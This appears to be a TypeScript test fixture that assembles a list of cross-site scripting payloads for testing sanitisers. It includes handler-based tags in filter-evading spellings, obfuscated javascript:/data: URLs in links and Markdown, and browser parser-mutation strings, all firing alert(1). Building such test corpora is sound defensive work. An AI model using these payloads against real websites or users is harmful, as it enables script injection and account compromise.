import { VECTORS } from '#lib/testing/hostile-site.ts'

/** Elements that run a handler by themselves, with the handler's name. */
const SELF_RUNNING = [
  ['img src=x', 'onerror'],
  ['img src=data:,', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['body', 'onload'],
  ['iframe', 'onload'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['object data=x', 'onerror'],
  ['embed src=data:text/html,', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['x tabindex=1 autofocus', 'onfocus'],
  ['p style=animation:x', 'onanimationstart'],
] as const

/** Ways to write a tag so that filters overlook it. `T` is the element, `H` the handler. */
const WRITINGS = [
  '<T H=alert(1)>',
  '<T H="alert(1)">',
  "<T\tH\n=\n'alert(1)'>",
  '<T/H=alert(1)//',
  '"><T H=alert(1)>',
  '&lt;T H=alert(1)&gt;<T H=alert&#40;1&#41;>',
] as const

const SCHEMES = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&#58;alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  'blob:alert(1)',
] as const

const PLACES = ['<a href="U">x</a>', '<iframe src="U"></iframe>', '[x](U)', '![x](U)', '<U>', '[r]\n\n[r]: U'] as const

/** Text that the parser of a browser reads differently from what was meant. */
const MUTATIONS = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title></title><script>alert(1)</script>',
  '<!--!><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<script\u0000>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '＜script＞alert(1)＜/script＞',
  '<img src=x:x onerror&#x3D;alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<base href="javascript:alert(1)//"><a href="#">x</a>',
  '<meta http-equiv=refresh content="0;javascript:alert(1)">',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">',
  '<a id=location href="javascript:alert(1)">x</a><form name=document>',
  '\\<img src=x onerror=alert(1)>',
  '``` <img src=x onerror=alert(1)> ```',
  '~~~\n<img src=x onerror=alert(1)>\n~~~\n<img src=x onerror=alert(1)>',
  '$$<img src=x onerror=alert(1)>$$',
  ':::note <img src=x onerror=alert(1)>\n:::',
  '<details><summary><img src=x onerror=alert(1)></summary></details>',
]

/** Every payload, each once; what works in no browser is there because it works with some sanitisers. */
export const PAYLOADS: string[] = [
  ...new Set([
    ...VECTORS,
    ...SELF_RUNNING.flatMap(([element, handler]) =>
      WRITINGS.map((writing) => writing.replaceAll('T', element).replaceAll('H', handler)),
    ),
    ...PLACES.flatMap((place) => SCHEMES.map((scheme) => place.replace('U', scheme))),
    ...MUTATIONS,
  ]),
]
